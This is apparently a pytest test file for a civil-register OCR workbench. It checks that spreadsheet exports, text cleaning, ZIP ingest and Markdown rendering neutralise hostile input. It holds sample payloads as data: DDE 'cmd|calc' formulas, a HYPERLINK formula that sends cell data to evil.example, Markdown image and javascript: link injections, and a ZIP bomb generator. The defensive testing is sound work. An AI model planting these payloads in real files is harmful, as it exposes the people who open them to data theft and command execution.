"""Hostile and broken input (issue #17 items 1, 2, 4 and 5): formulas in every spreadsheet the
project writes, control characters from typing, import and OCR through every export, files that
would vanish from an ingest without a word, and user text fed to the app's Markdown.

Item 3 too: a 200-page PDF and a ZIP bomb ingested under a measured peak-memory cap; item 9: the
modes of everything the CLI writes. Items 6-8 of the issue are covered elsewhere (item 8 in
tests/test_faults.py).
"""

from __future__ import annotations

import ast
import io
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from PIL import Image
from sqlalchemy import create_engine, func, select, update
from sqlalchemy.orm import Session, sessionmaker

from models import AuditEvent, FieldValue, Page, Record, RecordStatus, Unit, User
from ocr.fields.text import clean_text
from ocr.image.loading import ImageLoadError, ZipLimits, ZipMember, iter_input_files, zip_members
from tests.backends import fresh_engine
from tests.conftest import record_ids
from tests.test_app_pages import open_page, signed_in_app
from tests.test_bad_inputs import page_image, pdf_bytes
from workbench.books import BookIdentity
from workbench.context import Workbench
from workbench.crosscheck.extract import read_extract
from workbench.crosscheck.tracking import TrackingItem, write_tracking_xlsx
from workbench.db import session_factory, transaction
from workbench.deliverables.exports import package
from workbench.deliverables.exports.package import ExportError, export_book_pagexml, export_book_xlsx, export_book_zip
from workbench.deliverables.report_xlsx import run_report
from workbench.intake.ingest import IngestOptions, ingest_files
from workbench.review.record_view import get_record_view
from workbench.review.review import save_record
from workbench.ui.plain import plain

ROOT = Path(__file__).resolve().parent.parent

# OWASP CSV-injection starters, and an Excel error literal (openpyxl would write it as an error value).
FORMULAS = {
    "full_name": '=HYPERLINK("http://evil.example/?x="&B2,"Bấm vào đây")',
    "notes": "=cmd|'/c calc'!A1",
    "mother_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "father_name": "+1-1+cmd|' /C calc'!A0",
    "declarant": "-2+3+cmd|' /C calc'!A0",
    "birth_place": "#N/A",
}


# --- helpers -------------------------------------------------------------------------------------


def _write_deskewed_images(wb: Workbench, book_id: int) -> None:
    """insert_book's pages name a deskewed image; the ZIP and PAGE XML exports read it."""
    with wb.sessions() as session:
        paths = list(session.scalars(select(Page.deskewed_path).where(Page.book_id == book_id)))
    for relative in paths:
        target = wb.settings.data_dir / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        cv2.imwrite(str(target), np.full((1754, 2480, 3), 235, np.uint8))


def _approved_book(wb: Workbench, build_book: Callable[..., int], unit_id: int, official: User,
                   call: Callable[..., Any], values: dict[str, str]) -> int:
    """One processed page, one record, approved by an official who typed `values`."""
    book_id = build_book(unit_id, [0.9])
    _write_deskewed_images(wb, book_id)
    [record_id] = record_ids(wb.sessions, book_id)
    view = call(get_record_view, official, record_id)
    call(save_record, official, record_id, view.version, values, "approve")
    return book_id


def _cells(workbook: Workbook) -> Iterator[Any]:
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def assert_no_formula(workbook: Workbook, texts: list[str]) -> None:
    """No cell is a formula or an error value, and every hostile text is there, literally, as text."""
    cells = list(_cells(workbook))
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    by_value = {c.value: c for c in cells}
    for text in texts:
        assert text in by_value, text
        assert by_value[text].data_type == "s", (text, by_value[text].data_type)


# --- item 1: formulas in every spreadsheet -------------------------------------------------------


def test_import_file_and_zip_keep_formula_like_values_as_text(
    wb: Workbench, units: dict[str, int], users: dict[str, User], build_book: Callable[..., int],
    call: Callable[..., Any], tmp_path: Path,
) -> None:
    book_id = _approved_book(wb, build_book, units["xa_a"], users["official"], call, FORMULAS)
    with wb.sessions() as session:
        export_book_xlsx(session, book_id, tmp_path / "ks.xlsx")
        result = export_book_zip(session, wb.settings.data_dir, book_id, tmp_path / "ks.zip")
    assert_no_formula(load_workbook(tmp_path / "ks.xlsx"), list(FORMULAS.values()))
    [xlsx_name] = [n for n in result.files if n.endswith(".xlsx")]
    with zipfile.ZipFile(tmp_path / "ks.zip") as archive:
        inner = load_workbook(io.BytesIO(archive.read(xlsx_name)))
    assert_no_formula(inner, list(FORMULAS.values()))


def test_tracking_list_keeps_book_and_extract_values_as_text(tmp_path: Path) -> None:
    """The tracking list carries the book's values and the population extract's, side by side."""
    item = TrackingItem(
        result_id=1, record_id=1, book_id=1, book_type="khai_sinh", unit_name="=1+2", page_index=1, row_index=1,
        role="child", status="different", id_number="=9*9", differing_fields=("full_name",),
        book_values={"full_name": FORMULAS["full_name"], "birth_date": "+01/02/2003"},
        citizen_values={"full_name": "=cmd|'/c calc'!A1", "mother_name": "@A1", "residence": "-1+1"},
        candidate_count=1, resolved=True, resolution="#REF!",
    )
    write_tracking_xlsx([item], tmp_path / "tracking.xlsx")
    assert_no_formula(load_workbook(tmp_path / "tracking.xlsx"),
                      ["=1+2", "=9*9", FORMULAS["full_name"], "+01/02/2003", "=cmd|'/c calc'!A1", "@A1", "-1+1",
                       "#REF!"])


def test_progress_report_keeps_unit_names_as_text(wb: Workbench, units: dict[str, int], users: dict[str, User],
                                                   tmp_path: Path) -> None:
    with transaction(wb.sessions) as session:
        session.get(Unit, units["xa_a"]).name = "=HYPERLINK(\"http://evil.example\")"
    out = run_report(wb, users["admin"], "2026-11-28", None, tmp_path / "report.xlsx")
    assert_no_formula(load_workbook(out), ["=HYPERLINK(\"http://evil.example\")"])


# --- item 2: control characters ------------------------------------------------------------------


def test_control_characters_never_reach_stored_values(
    wb: Workbench, units: dict[str, int], users: dict[str, User], build_book: Callable[..., int],
    call: Callable[..., Any],
) -> None:
    typed = {"full_name": "Lê \x01Văn B", "notes": "dòng 1\r\ndòng\t2\x7f\x9b", "mother_name": "Trần\x00 Thị C\x85"}
    book_id = _approved_book(wb, build_book, units["xa_a"], users["official"], call, typed)
    with wb.sessions() as session:
        stored = {f.key: f.final_value for f in session.scalars(select(FieldValue).join(Record).where(
            Record.book_id == book_id, FieldValue.key.in_(list(typed))))}
    assert stored == {"full_name": "Lê Văn B", "notes": "dòng 1 dòng 2", "mother_name": "Trần Thị C"}
    # OCR proposals go through the same clean_text.
    assert clean_text("Nguyễn\x0bVăn\x1b A\u009f") == "Nguyễn Văn A"


def test_extract_import_drops_control_characters() -> None:
    csv = ('so_dinh_danh,ho_ten,ngay_sinh,ho_ten_me,noi_cu_tru\n'
           '001098000001,"Lê \x01Văn B",05/03/1998,"Trần\x1b Thị C","Thôn 1\nXã Tân Lập"\n').encode()
    table = read_extract(csv, "trich_xuat.csv")
    assert (table.full_name[0], table.mother_name[0], table.residence[0]) == (
        "Lê Văn B", "Trần Thị C", "Thôn 1 Xã Tân Lập")


def test_values_stored_with_control_characters_still_export(
    wb: Workbench, units: dict[str, int], users: dict[str, User], build_book: Callable[..., int],
    call: Callable[..., Any], tmp_path: Path,
) -> None:
    """Values saved before the entry points cleaned them: xlsx, zip and PAGE XML all finish."""
    book_id = _approved_book(wb, build_book, units["xa_a"], users["official"], call, {})
    with transaction(wb.sessions) as session:
        session.execute(update(FieldValue).where(FieldValue.key == "full_name").values(
            final_value="Lê \x01Văn\x0bB", proposed_value="Lê \x02Văn B"))
        session.execute(update(Page).where(Page.book_id == book_id).values(original_name="trang\x07_1.jpg"))
    with wb.sessions() as session:
        export_book_xlsx(session, book_id, tmp_path / "ks.xlsx")
        export_book_zip(session, wb.settings.data_dir, book_id, tmp_path / "ks.zip")
        result = export_book_pagexml(session, wb.settings.data_dir, book_id, tmp_path / "page")
    names = [c.value for c in _cells(load_workbook(tmp_path / "ks.xlsx")) if isinstance(c.value, str)]
    assert "Lê Văn B" in names
    xml = (tmp_path / "page" / result.files[0]).read_text(encoding="utf-8")
    assert "Lê Văn B" in xml and "trang_1.jpg" in xml


def test_a_failing_export_leaves_nothing_under_the_final_name(
    wb: Workbench, units: dict[str, int], users: dict[str, User], build_book: Callable[..., int],
    call: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    book_id = _approved_book(wb, build_book, units["xa_a"], users["official"], call, {})
    out = tmp_path / "exports"

    def broken(*_args: Any, **_kwargs: Any) -> bytes:
        raise ValueError("boom")

    monkeypatch.setattr(package, "page_xml", broken)
    monkeypatch.setattr(package, "write_import_xlsx", broken)
    with wb.sessions() as session:
        for run in (lambda: export_book_pagexml(session, wb.settings.data_dir, book_id, out / "page"),
                    lambda: export_book_xlsx(session, book_id, out / "ks.xlsx"),
                    lambda: export_book_zip(session, wb.settings.data_dir, book_id, out / "ks.zip")):
            with pytest.raises(ValueError, match="boom"):
                run()
    assert sorted(p.name for p in out.iterdir()) == []  # not even a hidden temporary


def test_pagexml_never_empties_a_folder_it_did_not_write(
    wb: Workbench, units: dict[str, int], users: dict[str, User], build_book: Callable[..., int],
    call: Callable[..., Any], tmp_path: Path,
) -> None:
    book_id = _approved_book(wb, build_book, units["xa_a"], users["official"], call, {})
    with wb.sessions() as session:
        first = export_book_pagexml(session, wb.settings.data_dir, book_id, tmp_path / "page")
        again = export_book_pagexml(session, wb.settings.data_dir, book_id, tmp_path / "page")  # replaced whole
        assert set(first.files) == set(again.files) == {p.name for p in (tmp_path / "page").iterdir()}
        (tmp_path / "mine").mkdir()
        (tmp_path / "mine" / "thesis.docx").write_bytes(b"precious")
        with pytest.raises(ExportError):
            export_book_pagexml(session, wb.settings.data_dir, book_id, tmp_path / "mine")
    assert [p.name for p in (tmp_path / "mine").iterdir()] == ["thesis.docx"]


# --- item 4: no page vanishes without a word -----------------------------------------------------


def _encoded(fmt: str, seed: int) -> bytes:
    rgb = cv2.cvtColor(cv2.imdecode(np.frombuffer(page_image(seed=seed), np.uint8), cv2.IMREAD_COLOR),
                       cv2.COLOR_BGR2RGB)
    buffer = io.BytesIO()
    Image.fromarray(rgb).save(buffer, format=fmt)
    return buffer.getvalue()


@pytest.fixture()
def factory(tmp_path: Path) -> Iterator[sessionmaker[Session]]:
    engine = fresh_engine("sqlite", tmp_path)
    yield session_factory(engine)
    engine.dispose()


def _accounted_for(factory: sessionmaker[Session], data_dir: Path, files: list[Any]) -> tuple[Any, list[str]]:
    report = ingest_files(factory, data_dir, files, identity=BookIdentity("Xã Tân Lập", "khai_sinh", 2003, 1),
                          options=IngestOptions(run_ocr=False))
    with factory() as session:
        pages = list(session.scalars(select(Page.original_name).order_by(Page.page_index)))
        refused = [e.new_value["file"] for e in session.scalars(select(AuditEvent).where(
            AuditEvent.entity_type == "book", AuditEvent.action == "upload_refused"))]
    return report, pages + refused


def test_every_file_of_a_folder_is_a_page_or_a_named_refusal(
    factory: sessionmaker[Session], tmp_path: Path
) -> None:
    folder = tmp_path / "so"
    folder.mkdir()
    (folder / "trang_1.jpg").write_bytes(page_image(seed=1))
    (folder / "trang_2.gif").write_bytes(_encoded("GIF", 2))
    (folder / "trang_3.jpeg2000").write_bytes(_encoded("JPEG2000", 3))
    (folder / "ghi chu.docx").write_bytes(b"PK\x03\x04 not a page")
    (folder / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")
    files = iter_input_files([folder])
    assert len(files) == 5
    report, accounted = _accounted_for(factory, tmp_path / "data", files)
    assert (report.pages_added, report.files_refused) == (3, 2), report.errors
    assert sorted(accounted) == sorted(p.name for p in folder.iterdir())
    assert any("ghi chu.docx" in e and "refused" in e for e in report.errors)  # the CLI prints these


def test_every_member_of_a_zip_is_a_page_or_a_named_refusal(
    factory: sessionmaker[Session], tmp_path: Path
) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("quyen1/trang#1.jpg", page_image(seed=4))  # '#' becomes a NUL below
        archive.writestr("quyen1/trang_2.jpg", page_image(seed=5))
        archive.writestr("__MACOSX/quyen1/._trang_2.jpg", b"resource fork")
        archive.writestr("phan2.zip", b"PK\x05\x06" + bytes(18))
    raw = buffer.getvalue().replace(b"trang#1", b"trang\x001")
    files = zip_members(raw, "so.zip")
    assert len(files) == 4 and all("\x00" not in f.name for f in files)
    report, accounted = _accounted_for(factory, tmp_path / "data", files)
    assert (report.pages_added, report.files_refused) == (2, 2), report.errors
    assert sorted(accounted) == sorted(["trang1.jpg", "trang_2.jpg", "._trang_2.jpg", "phan2.zip"])


# --- item 3: one upload must not take the server down (memory) -----------------------------------

PEAK_RSS_CAP = 1024 * 1024 * 1024  # bytes: any single upload, of any size


@dataclass(frozen=True)
class MeasuredRun:
    returncode: int
    stderr: str
    peak_rss: int  # bytes, of the CLI process


# Runs the CLI in-process and writes its own peak resident memory (VmHWM) at exit. The rusage of
# a child (wait4) is no measure here: Linux carries the forking parent's high-water mark over
# the exec, so inside a big test run every child "peaks" at the size of pytest itself.
_MEASURED_CLI = """
import atexit, runpy, sys
def _report(path):
    with open('/proc/self/status') as status:
        peak = next(line.split()[1] for line in status if line.startswith('VmHWM:'))
    with open(path, 'w') as out:
        out.write(peak)
peak_file = sys.argv[1]
atexit.register(_report, peak_file)
sys.argv = ['workbench', *sys.argv[2:]]
runpy.run_module('workbench', run_name='__main__')
"""


def _ingest_measured(tmp_path: Path, upload: Path, *extra: str) -> MeasuredRun:
    """`ingest --no-ocr` in a child process, and that process's own peak resident memory."""
    env = {**os.environ, "WORKBENCH_DB": f"sqlite:///{tmp_path / 'wb.db'}", "WORKBENCH_DATA": str(tmp_path / "data")}
    peak_file = tmp_path / "peak_kb.txt"
    command = [sys.executable, "-c", _MEASURED_CLI, str(peak_file), "ingest", str(upload), "--no-ocr",
               "--book-type", "khai_sinh", "--unit", "Xã Tân Lập", "--year", "2003", *extra]
    child = subprocess.run(command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                           text=True, check=False)
    return MeasuredRun(child.returncode, child.stderr, int(peak_file.read_text()) * 1024)


def _sqlite(tmp_path: Path) -> sessionmaker[Session]:
    return session_factory(create_engine(f"sqlite:///{tmp_path / 'wb.db'}"))


def test_a_200_page_pdf_is_ingested_page_by_page_under_the_memory_cap(tmp_path: Path) -> None:
    """A5 at 200 dpi is 5.8 MB of pixels a page: holding all 200 pages would take 1.2 GB."""
    upload = tmp_path / "so_200_trang.pdf"
    upload.write_bytes(pdf_bytes([(420, 595)] * 200))
    assert upload.stat().st_size < 100_000
    run = _ingest_measured(tmp_path, upload)
    assert run.returncode == 0, run.stderr
    assert run.peak_rss < PEAK_RSS_CAP, f"peak RSS {run.peak_rss / 2**20:.0f} MB"
    with _sqlite(tmp_path)() as session:
        pages = session.execute(select(Page.frame_index, Page.status).order_by(Page.page_index)).all()
    assert [frame for frame, _ in pages] == list(range(200))
    assert {status for _, status in pages} == {"done"}


def _zip_bomb(path: Path, members: int, member_mb: int) -> None:
    """Members of zeros named like scans, written as a stream: the test never holds them."""
    chunk = bytes(2**20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for index in range(members):
            with archive.open(f"trang_{index + 1}.jpg", "w", force_zip64=True) as handle:
                for _ in range(member_mb):
                    handle.write(chunk)


def test_a_zip_bomb_becomes_named_refusals_under_the_memory_cap(tmp_path: Path) -> None:
    upload = tmp_path / "so.zip"
    _zip_bomb(upload, members=5, member_mb=200)  # 1000 MB of zeros in about 4 MB
    run = _ingest_measured(tmp_path, upload)
    assert run.returncode == 0, run.stderr
    assert run.peak_rss < PEAK_RSS_CAP, f"peak RSS {run.peak_rss / 2**20:.0f} MB"
    with _sqlite(tmp_path)() as session:
        assert session.scalar(select(func.count()).select_from(Page)) == 0
        refused = {e.new_value["file"]: e.new_value["reason"] for e in session.scalars(
            select(AuditEvent).where(AuditEvent.action == "upload_refused"))}
    assert sorted(refused) == [f"trang_{i}.jpg" for i in range(1, 6)]
    assert all("above the 100 to 1 limit" in reason for reason in refused.values())
    said = " ".join(run.stderr.split())  # told on the command line too
    assert all(f"failed: so.zip/trang_{i}.jpg: refused: compressed" in said for i in range(1, 6)), said
    assert not (tmp_path / "data" / "originals").exists()  # nothing of it was stored


def _random_zip(sizes: dict[str, int]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, size in sizes.items():
            archive.writestr(name, b"%PDF-" + os.urandom(size))  # incompressible, a page by its signature
    return buffer.getvalue()


def test_zip_members_beyond_the_size_and_total_caps_are_refused_by_name() -> None:
    limits = ZipLimits(member_bytes=300_000, total_bytes=500_000)
    raw = _random_zip({"a.pdf": 200_000, "b.pdf": 400_000, "c.pdf": 200_000, "d.pdf": 200_000})
    files = {f.name: f for f in zip_members(raw, "so.zip", limits)}
    assert [n for n, f in files.items() if f.refusal is None] == ["so.zip/a.pdf", "so.zip/c.pdf"]
    assert "above the 0 MB limit for one file" in (files["so.zip/b.pdf"].refusal or "")
    assert "more than 0 MB in all" in (files["so.zip/d.pdf"].refusal or "")
    assert files["so.zip/a.pdf"].read_bytes().startswith(b"%PDF-")  # read only now, when registered
    with pytest.raises(ImageLoadError, match="refused: unpacks to more than"):
        ZipMember(raw, 0, limit=1000).read("so.zip/a.pdf")  # a header that understates is caught reading


# --- item 9: the data is private to the account that runs the workbench ---------------------------


def _cli_run(env: dict[str, str], *args: str) -> str:
    result = subprocess.run([sys.executable, "-m", "workbench", *args], cwd=ROOT, env=env, capture_output=True,
                            text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_every_file_the_cli_writes_is_600_and_every_folder_700(tmp_path: Path) -> None:
    """Ingest and every export through the CLI, under the umask a shell usually has (022)."""
    env = {**os.environ, "WORKBENCH_DB": f"sqlite:///{tmp_path / 'db' / 'wb.db'}",
           "WORKBENCH_DATA": str(tmp_path / "data")}
    sample = ROOT / "samples" / "books" / "khai_sinh" / "page_001.jpg"
    previous = os.umask(0o022)
    try:
        book = _cli_run(env, "ingest", str(sample), "--no-ocr", "--book-type", "khai_sinh", "--unit", "Xã Tân Lập",
                        "--year", "2003").strip().splitlines()[-1].split("=", 1)[1]
        out = tmp_path / "out"
        for fmt, target in [("json", "so.json"), ("xlsx", "so.xlsx"), ("zip", "so.zip"), ("pagexml", "pagexml")]:
            _cli_run(env, "export", book, "--format", fmt, "--include-unapproved", "--out", str(out / target))
        _cli_run(env, "report", "--out", str(out / "bao_cao" / "phu_luc_01.xlsx"))
    finally:
        os.umask(previous)
    written = [p for p in tmp_path.rglob("*") if p.name != "stderr.txt"]
    assert {p.name for p in written} >= {"wb.db", "so.json", "so.xlsx", "so.zip", "phu_luc_01.xlsx", "originals"}
    modes = {p.relative_to(tmp_path).as_posix(): oct(p.stat().st_mode & 0o777) for p in written}
    assert {path: mode for path, mode in modes.items()
            if mode != (oct(0o700) if (tmp_path / path).is_dir() else oct(0o600))} == {}


# What a register holds about people: none of it is put into an exception message or a log line
# (those reach log files, error trackers and other users' screens); ids name the record instead.
PERSONAL_VALUES = {"proposed_value", "final_value", "value", "full_name", "father_name", "mother_name",
                   "birth_date", "birth_text", "id_number", "residence", "new_value", "old_value"}
LOG_CALLS = {"debug", "info", "warning", "error", "exception", "critical"}


def _messages(tree: ast.AST) -> Iterator[ast.Call]:
    """Every `raise X(...)` and `log.<level>(...)` call."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Raise) and isinstance(node.exc, ast.Call):
            yield node.exc
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in LOG_CALLS:
            yield node


def test_errors_and_logs_never_carry_record_values() -> None:
    leaks = []
    for path in sorted((ROOT / "workbench").rglob("*.py")) + sorted((ROOT / "ocr").rglob("*.py")):
        for call in _messages(ast.parse(path.read_text(encoding="utf-8"))):
            arguments = [*call.args, *(keyword.value for keyword in call.keywords)]
            used = {n.id if isinstance(n, ast.Name) else n.attr for arg in arguments
                    for n in ast.walk(arg) if isinstance(n, (ast.Name, ast.Attribute))}
            if used & PERSONAL_VALUES:
                leaks.append(f"{path.relative_to(ROOT)}:{call.lineno}: {sorted(used & PERSONAL_VALUES)}")
    assert leaks == []


# --- item 5: Markdown injection in the app -------------------------------------------------------

# Streamlit calls whose text (first argument, or the keywords below) is rendered as Markdown.
MARKDOWN_SINKS = {
    "markdown", "caption", "info", "warning", "error", "success", "toast", "write", "title", "header",
    "subheader", "expander", "popover", "status", "spinner", "metric", "tabs", "radio", "button",
    "form_submit_button", "download_button", "link_button", "page_link", "checkbox", "toggle", "text_input",
    "text_area", "number_input", "selectbox", "multiselect", "slider", "select_slider", "segmented_control",
    "pills", "date_input", "time_input", "file_uploader", "color_picker", "camera_input", "progress", "image",
}
NOT_TEXT_FIRST = {"progress", "image", "page_link"}  # their first argument is a value, an image, a page
TEXT_KEYWORDS = ("body", "label", "help", "text", "caption", "captions", "placeholder")
NUMERIC_SPEC = re.compile(r"^[^{}]*[bdoxXneEfFgG%]$")
SAFE_CALLS = {"plain", "len", "int", "round", "float"}
# Field labels come from the book-type templates shipped in workbench/templates/, not from users;
# they stay unescaped so that the widgets keep their accessible names.
TRUSTED = {"field.label", "f.label"}


def _is_safe(node: ast.expr) -> bool:
    """Literal text, plain(...), UPPER_CASE constants, numbers ({n:d}, len, arithmetic); f-strings,
    +, conditionals and lists of those."""
    if isinstance(node, ast.Constant) or ast.unparse(node) in TRUSTED:
        return True
    if isinstance(node, ast.JoinedStr):
        return all(_is_safe(v) for v in node.values)
    if isinstance(node, ast.FormattedValue):
        spec = ast.unparse(node.format_spec)[2:-1] if node.format_spec else ""
        return bool(NUMERIC_SPEC.match(spec)) or _is_safe(node.value)
    if isinstance(node, ast.Call):
        name = node.func.id if isinstance(node.func, ast.Name) else getattr(node.func, "attr", "")
        return name in SAFE_CALLS
    if isinstance(node, ast.BinOp):
        return _is_safe(node.left) and _is_safe(node.right) if isinstance(node.op, ast.Add) else True
    if isinstance(node, ast.IfExp):
        return _is_safe(node.body) and _is_safe(node.orelse)
    if isinstance(node, ast.List | ast.Tuple):
        return all(_is_safe(e) for e in node.elts)
    if isinstance(node, ast.Name | ast.Attribute):
        return (node.id if isinstance(node, ast.Name) else node.attr).isupper()  # KEY_HELP_VI, MAX_FILE_MB
    return False


def markdown_fed_with_unescaped_values(paths: list[Path]) -> list[str]:
    found = []
    for path in paths:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in MARKDOWN_SINKS):
                continue
            first = [] if node.func.attr in NOT_TEXT_FIRST else node.args[:1]
            texts = first + [k.value for k in node.keywords if k.arg in TEXT_KEYWORDS]
            found += [f"{path.relative_to(ROOT)}:{node.lineno}: {node.func.attr}({ast.unparse(t)[:80]})"
                      for t in texts if not _is_safe(t)]
    return found


def test_pages_feed_markdown_only_literals_escaped_text_and_numbers() -> None:
    paths = sorted((ROOT / "app_pages").glob("*.py")) + sorted((ROOT / "workbench" / "ui").glob("*.py"))
    assert markdown_fed_with_unescaped_values(paths) == []
    # The checker is not vacuous.
    probe = ROOT / "tests" / "_markdown_probe.py"
    probe.write_text('st.caption(f"Trang {page.original_name}")\nst.warning(f"{n:d} {plain(name)}")\n')
    try:
        assert len(markdown_fed_with_unescaped_values([probe])) == 1
    finally:
        probe.unlink()


RENDER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
HOSTILE_TEXT = ["![px](https://evil.example/x.png)", "![t](https:evil.example?x).jpg", "[bấm](javascript:alert(1))",
                "<img src=x>", "**đậm** _nghiêng_ `mã` :red[đỏ] $x^2$", "# Tiêu đề", "1. danh sách", "a\\*b"]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_plain_text_renders_literally(text: str) -> None:
    html = RENDER.render(plain(text))
    assert "<img" not in html and "<a" not in html and "<em" not in html and "<strong" not in html
    assert "<h1" not in html and "<ol" not in html and "<code" not in html
    assert html.strip() == f"<p>{text.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}</p>"


def test_a_flag_reason_is_shown_literally_to_the_supervisor(
    app_env: Workbench, users: dict[str, User], sample_book_id: int, sessions: sessionmaker[Session]
) -> None:
    reason = "![px](https://evil.example/x.png)"
    first = record_ids(sessions, sample_book_id)[0]
    with transaction(sessions) as session:
        record = session.get(Record, first)
        record.status, record.flag_reason = RecordStatus.FLAGGED, reason
    at = open_page(signed_in_app(users["supervisor"]), "app_pages/supervisor_queues.py")
    at.button(key="flagged-open").click()
    at.run()
    assert not at.exception
    [header] = [m.value for m in at.markdown if "⚑" in m.value]
    html = RENDER.render(header)
    assert "<img" not in html and "evil.example" not in re.sub(r"<[^>]+>", "", html).replace(reason, "")
    assert reason in html  # the text itself, visible as typed


@pytest.fixture()
def app_env(wb: Workbench, monkeypatch: pytest.MonkeyPatch) -> Workbench:
    monkeypatch.setenv("WORKBENCH_DB", wb.settings.db_url)
    monkeypatch.setenv("WORKBENCH_DATA", str(wb.settings.data_dir))
    return wb

